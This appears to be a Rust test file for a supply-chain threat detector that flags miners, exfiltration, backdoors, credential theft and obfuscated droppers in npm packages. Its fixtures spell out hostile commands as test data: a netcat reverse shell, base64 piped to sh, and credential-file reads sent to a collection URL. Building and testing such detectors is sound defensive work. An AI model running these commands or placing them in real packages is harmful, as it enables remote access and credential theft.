// Test module for the pattern analyzer.
// These tests verify the signature and correlation detectors.

use super::*;
use crate::signal::{HttpMetadata, PackageIdentity, Protocol, SuspicionReport};
use crate::stack::CallStack;
use std::path::PathBuf;

fn pkg(name: &str) -> PackageIdentity {
    PackageIdentity {
        name: name.to_string(),
        version: "1.0.0".to_string(),
        path: PathBuf::from("/app/node_modules").join(name),
    }
}

fn shell_exec(package: &str, command: &str) -> Signal {
    Signal::new(
        pkg(package),
        SignalMetadata::ShellExec {
            command: command.to_string(),
            operation: "exec".to_string(),
        },
        CallStack::default(),
    )
}

fn env_access(package: &str, variable: &str) -> Signal {
    Signal::new(
        pkg(package),
        SignalMetadata::EnvAccess {
            variable: variable.to_string(),
        },
        CallStack::default(),
    )
}

fn fs_read(package: &str, path: &str) -> Signal {
    Signal::new(
        pkg(package),
        SignalMetadata::FsRead {
            path: PathBuf::from(path),
            operation: "read".to_string(),
        },
        CallStack::default(),
    )
}

fn http_request(package: &str, url: &str) -> Signal {
    let parsed = url::Url::parse(url).unwrap();
    Signal::new(
        pkg(package),
        SignalMetadata::HttpRequest(HttpMetadata {
            url: url.to_string(),
            method: "GET".to_string(),
            host: parsed.host_str().unwrap_or_default().to_string(),
            port: parsed.port_or_known_default().unwrap_or(80),
            path: parsed.path().to_string(),
            headers: Vec::new(),
            suspicious: SuspicionReport::default(),
        }),
        CallStack::default(),
    )
}

fn net_connect(package: &str, host: &str, port: u16) -> Signal {
    Signal::new(
        pkg(package),
        SignalMetadata::NetConnect {
            host: host.to_string(),
            port,
            protocol: Protocol::Tcp,
        },
        CallStack::default(),
    )
}

fn analyze_all(signals: &[Signal]) -> ThreatResult {
    analyze(signals, &PatternConfig::default())
}

// --- Crypto miner ---

#[test]
fn test_miner_process_is_critical() {
    let result = analyze_all(&[shell_exec("coinhelper", "XMRig --donate-level 0")]);
    let finding = &result.findings[0];
    assert_eq!(finding.kind, ThreatKind::CryptoMiner);
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.package, "coinhelper@1.0.0");
    assert_eq!(finding.signal, Some(0));
    assert_eq!(result.highest, ThreatLabel::Critical);
}

#[test]
fn test_mining_pool_url_is_critical() {
    let result = analyze_all(&[http_request("dep", "http://supportxmr.com/api")]);
    assert_eq!(result.findings[0].kind, ThreatKind::CryptoMiner);
    assert_eq!(result.findings[0].severity, Severity::Critical);
}

#[test]
fn test_mining_env_var_is_high() {
    let result = analyze_all(&[env_access("dep", "WALLET_ADDRESS")]);
    assert_eq!(result.findings[0].kind, ThreatKind::CryptoMiner);
    assert_eq!(result.findings[0].severity, Severity::High);
}

// --- Data exfiltration ---

#[test]
fn test_exfil_service_url_is_critical() {
    let result = analyze_all(&[http_request("dep", "https://webhook.site/abc")]);
    assert_eq!(result.findings[0].kind, ThreatKind::DataExfiltration);
    assert_eq!(result.findings[0].severity, Severity::Critical);
    assert_eq!(result.highest, ThreatLabel::Critical);
}

#[test]
fn test_sensitive_read_plus_http_correlation() {
    // Read order does not matter: the request may come later or earlier.
    let signals = vec![
        fs_read("stealer", "/home/user/.aws/credentials"),
        http_request("stealer", "https://collect.example.com/drop"),
    ];
    let result = analyze_all(&signals);
    let corr = result
        .findings
        .iter()
        .find(|f| f.kind == ThreatKind::SensitiveFilePlusHttp)
        .unwrap();
    assert_eq!(corr.severity, Severity::Critical);
    assert_eq!(corr.package, "stealer@1.0.0");
    assert!(corr.indicator.contains(".aws/credentials"));
    assert!(corr.signal.is_none());
    assert_eq!(result.highest, ThreatLabel::Critical);
}

#[test]
fn test_correlation_requires_same_package() {
    let signals = vec![
        fs_read("reader", "/home/user/.npmrc"),
        http_request("sender", "https://api.example.com/v1"),
    ];
    let result = analyze_all(&signals);
    assert!(!result
        .findings
        .iter()
        .any(|f| f.kind == ThreatKind::SensitiveFilePlusHttp));
}

#[test]
fn test_sensitive_read_alone_is_not_exfiltration() {
    // Still surfaces as credential theft, but not as exfiltration.
    let result = analyze_all(&[fs_read("reader", "/home/user/.aws/credentials")]);
    assert!(!result
        .findings
        .iter()
        .any(|f| f.kind == ThreatKind::SensitiveFilePlusHttp
            || f.kind == ThreatKind::DataExfiltration));
}

// --- Backdoor ---

#[test]
fn test_reverse_shell_is_critical() {
    let result = analyze_all(&[shell_exec("backdoor", "nc -e /bin/sh 10.0.0.1 4444")]);
    assert_eq!(result.findings[0].kind, ThreatKind::Backdoor);
    assert_eq!(result.findings[0].severity, Severity::Critical);
    assert_eq!(result.highest, ThreatLabel::Critical);
}

#[test]
fn test_tunnel_tool_is_high() {
    let result = analyze_all(&[shell_exec("helper", "ngrok http 3000")]);
    assert_eq!(result.findings[0].kind, ThreatKind::Backdoor);
    assert_eq!(result.findings[0].severity, Severity::High);
}

#[test]
fn test_suspicious_port_is_high() {
    let result = analyze_all(&[net_connect("dialer", "203.0.113.9", 31337)]);
    assert_eq!(result.findings[0].kind, ThreatKind::Backdoor);
    assert_eq!(result.findings[0].severity, Severity::High);
    assert!(result.findings[0].indicator.contains("31337"));
}

#[test]
fn test_common_port_is_clean() {
    let result = analyze_all(&[net_connect("dialer", "registry.npmjs.org", 443)]);
    assert!(result.findings.is_empty());
    assert_eq!(result.highest, ThreatLabel::None);
}

// --- Credential theft ---

#[test]
fn test_secret_env_var_is_high() {
    let result = analyze_all(&[env_access("sniffer", "AWS_ACCESS_KEY_ID")]);
    assert_eq!(result.findings[0].kind, ThreatKind::CredentialTheft);
    assert_eq!(result.findings[0].severity, Severity::High);
    assert_eq!(result.highest, ThreatLabel::High);
}

#[test]
fn test_credential_file_read_is_high() {
    let result = analyze_all(&[fs_read("sniffer", "/home/user/.ssh/id_rsa")]);
    assert_eq!(result.findings[0].kind, ThreatKind::CredentialTheft);
}

#[test]
fn test_benign_env_var_is_clean() {
    let result = analyze_all(&[env_access("app", "NODE_ENV")]);
    assert!(result.findings.is_empty());
}

// --- Obfuscation ---

#[test]
fn test_decode_piped_to_shell_is_high() {
    let result = analyze_all(&[shell_exec("dropper", "echo aGk= | base64 -d | sh")]);
    assert_eq!(result.findings[0].kind, ThreatKind::Obfuscation);
    assert_eq!(result.findings[0].severity, Severity::High);
    assert_eq!(result.highest, ThreatLabel::High);
}

#[test]
fn test_bare_decoding_is_medium() {
    let result = analyze_all(&[shell_exec("dropper", "cat blob | base64 -d > out.bin")]);
    assert_eq!(result.findings[0].severity, Severity::Medium);
}

// --- Summary and toggles ---

#[test]
fn test_summary_prefers_miner_and_backdoor() {
    let signals = vec![
        env_access("a", "NPM_TOKEN"),
        shell_exec("b", "ngrok tcp 22"),
    ];
    let result = analyze_all(&signals);
    assert_eq!(result.total, 2);
    assert_eq!(result.highest, ThreatLabel::Critical);
}

#[test]
fn test_disabled_analyzer_returns_nothing() {
    let mut config = PatternConfig::default();
    config.enabled = false;
    let result = analyze(&[shell_exec("evil", "xmrig")], &config);
    assert!(result.findings.is_empty());
    assert_eq!(result.highest, ThreatLabel::None);
}

#[test]
fn test_individual_detector_toggle() {
    let mut config = PatternConfig::default();
    config.detect_crypto_miners = false;
    let result = analyze(&[shell_exec("evil", "xmrig --threads 8")], &config);
    assert!(!result
        .findings
        .iter()
        .any(|f| f.kind == ThreatKind::CryptoMiner));
}
